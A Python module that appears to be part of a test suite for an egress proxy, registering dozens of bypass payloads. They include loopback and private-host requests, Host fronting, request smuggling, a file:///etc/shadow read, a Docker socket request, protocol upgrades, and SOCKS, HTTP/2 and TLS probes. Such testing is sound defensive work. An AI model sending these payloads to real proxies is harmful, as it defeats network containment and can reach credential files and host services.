"""Tricks on the protocol of the egress proxy (group ``proxy``)."""

from __future__ import annotations

import socket
import struct

from .kit import REGISTER, Plan, Try, attempt, said
from .wires import hello, proxy, sent, tunnelled


def _raw(text: str) -> Try:
    """Bytes to the proxy, with what the plan knows filled in; lines end as HTTP's do."""

    def run(plan: Plan) -> str | None:
        filled = (
            text.replace("ALLOWED", plan.allowed)
            .replace("DENIED", plan.denied)
            .replace("INWARD", plan.inward)
            .replace("PORT", str(plan.tcp))
            .replace("TLS", str(plan.port))
            .replace("|", "\r\n")
        )
        return tunnelled(sent(proxy(), filled.encode("latin-1")), plan)

    return run


for _name, _what, _text in (
    (
        "absolute",
        "absolute form to the machine's loopback",
        "GET http://127.0.0.1:PORT/ HTTP/1.1|Host: 127.0.0.1:PORT||",
    ),
    (
        "absolute_denied",
        "absolute form to a host that is not allowed",
        "GET http://DENIED/ HTTP/1.1|Host: DENIED||",
    ),
    (
        "absolute_inward",
        "absolute form to a name whose address is private",
        "GET http://INWARD:PORT/ HTTP/1.1|Host: INWARD:PORT||",
    ),
    (
        "absolute_host",
        "absolute form with another Host",
        "GET http://DENIED/ HTTP/1.1|Host: ALLOWED||",
    ),
    (
        "host_fronting",
        "absolute form to an allowed host, Host of another",
        "GET http://ALLOWED/ HTTP/1.1|Host: DENIED||",
    ),
    ("two_hosts", "two Host headers", "GET http://DENIED/ HTTP/1.1|Host: ALLOWED|Host: DENIED||"),
    (
        "origin_form",
        "origin form, Host of the machine's loopback",
        "GET / HTTP/1.1|Host: 127.0.0.1:PORT||",
    ),
    (
        "https_absolute",
        "absolute form over HTTPS",
        "GET https://127.0.0.1:PORT/ HTTP/1.1|Host: 127.0.0.1||",
    ),
    ("ftp", "absolute form over FTP", "GET ftp://127.0.0.1:PORT/ HTTP/1.1|Host: 127.0.0.1||"),
    ("file", "absolute form of a file", "GET file:///etc/shadow HTTP/1.1|Host: localhost||"),
    (
        "unix",
        "absolute form of a Unix socket",
        "GET http+unix://%2frun%2fdocker.sock/info HTTP/1.1|Host: x||",
    ),
    (
        "user_absolute",
        "absolute form with user information",
        "GET http://ALLOWED@127.0.0.1:PORT/ HTTP/1.1|Host: ALLOWED||",
    ),
    ("connect_url", "CONNECT with a URL", "CONNECT http://127.0.0.1:PORT/ HTTP/1.1|Host: x||"),
    ("connect_path", "CONNECT with a path", "CONNECT /127.0.0.1:PORT HTTP/1.1|Host: x||"),
    (
        "connect_host",
        "CONNECT whose Host is allowed and whose target is not",
        "CONNECT 127.0.0.1:PORT HTTP/1.1|Host: ALLOWED:TLS||",
    ),
    ("connect_old", "CONNECT of HTTP/1.0", "CONNECT 127.0.0.1:PORT HTTP/1.0||"),
    ("connect_older", "a request of HTTP/0.9", "GET http://127.0.0.1:PORT/|"),
    ("connect_case", "connect in small letters", "connect 127.0.0.1:PORT HTTP/1.1|Host: x||"),
    (
        "split_line",
        "two versions in the line",
        "CONNECT 127.0.0.1:PORT HTTP/1.1 HTTP/1.1|Host: ALLOWED:TLS||",
    ),
    (
        "pipelined",
        "a second CONNECT behind one that is refused",
        "CONNECT DENIED:TLS HTTP/1.1|Host: DENIED||CONNECT 127.0.0.1:PORT HTTP/1.1|Host: x||",
    ),
    (
        "body_smuggling",
        "a CONNECT in a body of two lengths",
        (
            "POST http://DENIED/ HTTP/1.1|Host: DENIED|Content-Length: 4|"
            "Transfer-Encoding: chunked||"
            "0||CONNECT 127.0.0.1:PORT HTTP/1.1|Host: x||"
        ),
    ),
    (
        "lf_only",
        "lines that end in LF alone",
        "CONNECT 127.0.0.1:PORT HTTP/1.1\nHost: ALLOWED:TLS\n\n",
    ),
    ("folded", "a folded header", "CONNECT 127.0.0.1:PORT HTTP/1.1|Host: x|\tALLOWED||"),
    (
        "forwarded",
        "headers that claim another host",
        "GET / HTTP/1.1|Host: ALLOWED|X-Forwarded-Host: 127.0.0.1:PORT|Forwarded: host=127.0.0.1||",
    ),
    (
        "proxy_connection",
        "Proxy-Connection and a second target",
        "GET http://127.0.0.1:PORT/ HTTP/1.1|Host: x|Proxy-Connection: keep-alive||",
    ),
    (
        "authorization",
        "credentials of its own making",
        "CONNECT 127.0.0.1:PORT HTTP/1.1|Host: x|Proxy-Authorization: Basic YWRtaW46YWRtaW4=||",
    ),
    (
        "trace",
        "TRACE, which shows what was added",
        "TRACE http://ALLOWED/ HTTP/1.1|Host: DENIED|Max-Forwards: 0||",
    ),
    ("options", "OPTIONS *", "OPTIONS * HTTP/1.1|Host: DENIED||"),
    (
        "upgrade",
        "an upgrade to HTTP/2 in the clear",
        (
            "GET http://DENIED/ HTTP/1.1|Host: DENIED|Connection: Upgrade, HTTP2-Settings|"
            "Upgrade: h2c|HTTP2-Settings: AAMAAABkAAQAAP__||"
        ),
    ),
    (
        "websocket",
        "a WebSocket to another host",
        (
            "GET http://DENIED/ HTTP/1.1|Host: DENIED|Connection: Upgrade|Upgrade: websocket|"
            "Sec-WebSocket-Version: 13|Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==||"
        ),
    ),
    (
        "websocket_inward",
        "a WebSocket to the machine's loopback",
        (
            "GET http://127.0.0.1:PORT/ HTTP/1.1|Host: x|Connection: Upgrade|Upgrade: websocket|"
            "Sec-WebSocket-Version: 13|Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==||"
        ),
    ),
    (
        "doh",
        "a question to a public resolver over HTTPS",
        "CONNECT dns.google:443 HTTP/1.1|Host: dns.google:443||",
    ),
    (
        "connect_udp",
        "a tunnel for datagrams (RFC 9298)",
        (
            "GET /.well-known/masque/udp/8.8.8.8/53/ HTTP/1.1|Host: x|Connection: Upgrade|"
            "Upgrade: connect-udp||"
        ),
    ),
    (
        "proxy_header",
        "a PROXY header before the request",
        "PROXY TCP4 10.0.0.1 10.0.0.2 1 443|CONNECT 127.0.0.1:PORT HTTP/1.1|Host: x||",
    ),
):
    REGISTER.add(f"proxy.{_name}", _what, _raw(_text))


@attempt("proxy.http2", "HTTP/2 with prior knowledge")
def http2(plan: Plan) -> str | None:
    """The preface, settings, and an extended CONNECT's headers without compression."""

    def field(name: str, value: str) -> bytes:
        return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()

    block = field(":method", "CONNECT") + field(":authority", f"127.0.0.1:{plan.tcp}")
    frame = len(block).to_bytes(3, "big") + b"\x01\x04\0\0\0\x01" + block
    data = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + frame
    answer = sent(proxy(), data)
    return said(answer, plan) or ("it speaks HTTP/2" if answer[3:4] == b"\x04" else None)


@attempt("proxy.socks5", "SOCKS 5 to the machine's loopback")
def socks5(plan: Plan) -> str | None:
    """Greeting and request at once."""
    request = b"\x05\x01\x00\x01" + socket.inet_aton("127.0.0.1") + struct.pack(">H", plan.tcp)
    answer = sent(proxy(), b"\x05\x01\x00", request)
    return "it speaks SOCKS" if answer[:1] == b"\x05" else said(answer, plan)


@attempt("proxy.socks4", "SOCKS 4a to a name")
def socks4(plan: Plan) -> str | None:
    """Which would resolve it too."""
    where = struct.pack(">BBH", 4, 1, plan.tcp) + b"\0\0\0\1\0" + plan.denied.encode() + b"\0"
    answer = sent(proxy(), where)
    return "it speaks SOCKS" if answer[:2] == b"\0\x5a" else said(answer, plan)


@attempt("proxy.tls", "TLS to the proxy itself, with a name that it may not reach")
def tls_to_proxy(plan: Plan) -> str | None:
    """A transparent proxy would dial it."""
    answer = sent(proxy(), hello(plan.denied))
    return "a ServerHello" if answer[:1] == b"\x16" else said(answer, plan)
